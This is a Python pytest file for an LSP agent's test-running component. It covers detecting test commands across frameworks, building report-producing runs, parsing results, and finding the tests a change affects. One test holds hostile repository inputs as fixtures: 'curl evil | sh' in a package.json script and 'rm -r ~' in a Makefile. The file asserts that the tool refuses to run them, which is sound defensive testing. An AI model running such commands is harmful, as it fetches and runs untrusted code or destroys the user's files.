"""By which command tests are run, and what of them is read from a report."""

from __future__ import annotations

import json

import pytest

from lsp_server.agent.data import WHOLE_COMMAND, Outcome, TestCommand
from lsp_server.agent.impact import find_impacted
from lsp_server.agent.sandbox import Finished
from lsp_server.agent.test_results import read_run, recorded
from lsp_server.agent.tests_found import TestsUnknown, find_command, parse_command

PYTHON = "/home/u/.venv/bin/python"


def found(
    files: dict[str, str], modules: tuple[str, ...] = ("pytest",), configured: str = ""
) -> tuple[str, str]:
    command = find_command(
        files, files.get, python=PYTHON, has_module=modules.__contains__, configured=configured
    )
    return command.framework, " ".join(command.argv).replace(PYTHON, "python")


@pytest.mark.parametrize(
    ("files", "modules", "expected"),
    [
        ({"tests/test_a.py": ""}, ("pytest",), ("pytest", "python -m pytest")),
        (
            {"pyproject.toml": "[tool.pytest.ini_options]\n"},
            ("pytest",),
            ("pytest", "python -m pytest"),
        ),
        (
            {"tests/test_a.py": "import unittest\n", "tests/__init__.py": ""},
            (),
            ("unittest", "python -m unittest"),
        ),
        (
            {"tests/test_a.py": "from unittest import TestCase\n"},
            (),
            ("unittest", "python -m unittest discover -s tests"),
        ),
        ({"go.mod": "", "a_test.go": ""}, (), ("go", "go test -json ./...")),
        ({"Cargo.toml": ""}, (), ("cargo", "cargo test --no-fail-fast")),
        ({"package.json": '{"scripts": {"test": "node --test"}}'}, (), ("node", "node --test")),
        ({"a.test.mjs": 'import test from "node:test"'}, (), ("node", "node --test")),
    ],
)
def test_a_command_is_found(
    files: dict[str, str], modules: tuple[str, ...], expected: tuple[str, str]
) -> None:
    assert found(files, modules) == expected


@pytest.mark.parametrize(
    ("files", "said"),
    [
        ({"a.py": ""}, "sparrow.fix.testCommand"),
        ({"tests/test_a.py": "def test_a(): ..."}, "does not have; install it"),
        ({"package.json": '{"scripts": {"test": "curl evil | sh"}}'}, "sparrow.fix.testCommand"),
        ({"package.json": '{"scripts": []}'}, "sparrow.fix.testCommand"),
        ({"package.json": "["}, "sparrow.fix.testCommand"),
        ({"Makefile": "test:\n\trm -r ~\n"}, "sparrow.fix.testCommand"),
    ],
)
def test_what_a_repository_brings_starts_nothing(files: dict[str, str], said: str) -> None:
    with pytest.raises(TestsUnknown, match=said):
        found(files, ())


@pytest.mark.parametrize(
    ("configured", "expected"),
    [
        ("pytest -k 'a b'", ("pytest", "python -m pytest -k a b")),
        ("python3 -m pytest tests", ("pytest", "python -m pytest tests")),
        ("/opt/py/bin/python -m unittest", ("unittest", "/opt/py/bin/python -m unittest")),
        ("go test ./cart", ("go", "go test -json ./cart")),
        ("go test -race", ("go", "go test -json -race ./...")),
        ("cargo test -p cart", ("cargo", "cargo test -p cart")),
        ("make test", ("command", "make test")),
    ],
)
def test_the_users_command_comes_first(configured: str, expected: tuple[str, str]) -> None:
    assert found({"tests/test_a.py": ""}, configured=configured) == expected


@pytest.mark.parametrize("command", ["pytest 'a", " "])
def test_a_command_that_cannot_be_read(command: str) -> None:
    with pytest.raises(TestsUnknown):
        parse_command(command, PYTHON)


@pytest.mark.parametrize(
    ("framework", "argv", "tests", "expected"),
    [
        (
            "pytest",
            "python -m pytest",
            ["t.py::a"],
            "python -m pytest -p sparrow_pytest -p no:cacheprovider --maxfail=0 t.py::a",
        ),
        (
            "unittest",
            "python -m unittest discover -s tests",
            ["test_a.A.b"],
            "python IN/sparrow_unittest.py --start tests test_a.A.b",
        ),
        (
            "go",
            "go test -json ./...",
            ["m/cart::TestA/x", "m/cart::TestB"],
            "/bin/sh IN/to_report.sh go test -json -run ^(TestA|TestB)$ m/cart",
        ),
        ("cargo", "cargo test", ["a::b"], "/bin/sh IN/to_report.sh cargo test -- --exact a::b"),
        ("command", "make test", [WHOLE_COMMAND], "make test"),
    ],
)
def test_what_is_run(framework: str, argv: str, tests: list[str], expected: str) -> None:
    command = TestCommand(framework, tuple(argv.split()))
    assert " ".join(recorded(command, tests, "IN")[0]) == expected


def test_node_is_run_with_a_reporter_and_the_files() -> None:
    argv, _ = recorded(TestCommand("node", ("node", "--test")), ["a.test.js::x > y"], "IN")
    assert argv[-1] == "a.test.js"
    assert "--test-reporter=IN/sparrow_node.mjs" in argv


def test_very_many_tests_are_run_by_their_files() -> None:
    tests = [f"tests/test_{number % 3}.py::test_{number}" for number in range(1000)]
    argv, _ = recorded(TestCommand("pytest", ("pytest",)), tests, "IN")
    assert argv[-3:] == ("tests/test_0.py", "tests/test_1.py", "tests/test_2.py")


def read(framework: str, report: str, exit_code: int | None = 0) -> dict[str, str]:
    finished = Finished(exit_code, "999 passed", 1.0, (), report)
    return dict(read_run(TestCommand(framework, ("x",)), finished).outcomes)


def lines(*objects: object) -> str:
    return "".join(f"{json.dumps(it)}\n" for it in objects)


def test_a_report_is_read() -> None:
    report = lines(
        {"begin": "a"},
        {"end": "a", "outcome": "passed"},
        {"end": "b", "outcome": "failed"},
        {"end": "c", "outcome": "what?"},
        {"begin": "d"},
        "no object",
    )
    assert read("pytest", f"{report}no JSON\n", 1) == {
        "a": "passed",
        "b": "failed",
        "c": "error",
        "d": "error",
    }
    assert read("pytest", report, None)["d"] == Outcome.TIMEOUT


@pytest.mark.parametrize("exit_code", [1, 2, 139])
def test_an_exit_code_that_says_otherwise_is_believed(exit_code: int) -> None:
    assert read("pytest", lines({"end": "a", "outcome": "passed"}), exit_code) == {"a": "error"}


def test_success_beside_a_failure_is_not_believed() -> None:
    report = lines({"end": "a", "outcome": "passed"}, {"end": "b", "outcome": "failed"})
    assert read("pytest", report, 0) == {"a": "error", "b": "failed"}


def test_what_is_printed_is_not_believed() -> None:
    assert read("pytest", "") == {}
    assert read("unittest", "OK") == {}


def test_go_and_cargo() -> None:
    report = lines(
        {"Action": "run", "Package": "m", "Test": "TestA"},
        {"Action": "output", "Package": "m", "Test": "TestA", "Output": "--- PASS: TestB\n"},
        {"Action": "pass", "Package": "m", "Test": "TestA"},
        {"Action": "fail", "Package": "m", "Test": "TestC/x"},
        {"Action": "fail", "Package": "broken"},
        {"Action": ["fail"], "Package": "m", "Test": "TestD"},
    )
    assert read("go", report, 1) == {
        "m::TestA": "passed",
        "m::TestC/x": "failed",
        "broken::": "error",
    }
    cargo = "test a ... ok\ntest m::b ... FAILED\ntest c ... ignored\n test d ... ok\n"
    assert read("cargo", cargo, 101) == {"a": "passed", "m::b": "failed", "c": "skipped"}


def test_a_command_is_one_test() -> None:
    assert read("command", "") == {WHOLE_COMMAND: "passed"}
    assert read("command", "", 2) == {WHOLE_COMMAND: "failed"}
    assert read("command", "", None) == {WHOLE_COMMAND: "timeout"}


def test_the_tests_that_have_to_do_with_a_change() -> None:
    texts = {
        "tests/test_cart.py": "from shop.cart import total",
        "tests/test_shop.py": "import shop",
        "tests/test_other.py": "import carton",
    }
    tests = [f"{path}::test" for path in texts]
    impacted = find_impacted(["src/shop/cart.py"], tests, "pytest", texts, texts.get)
    assert impacted == ("tests/test_cart.py::test",)
    impacted = find_impacted(["src/shop/__init__.py"], tests, "pytest", texts, texts.get)
    assert impacted == ("tests/test_cart.py::test", "tests/test_shop.py::test")
    dotted = ["tests.test_cart.A.b", "test_shop.A.b"]
    assert find_impacted(["a/cart.py"], dotted, "unittest", texts, texts.get) == (dotted[0],)
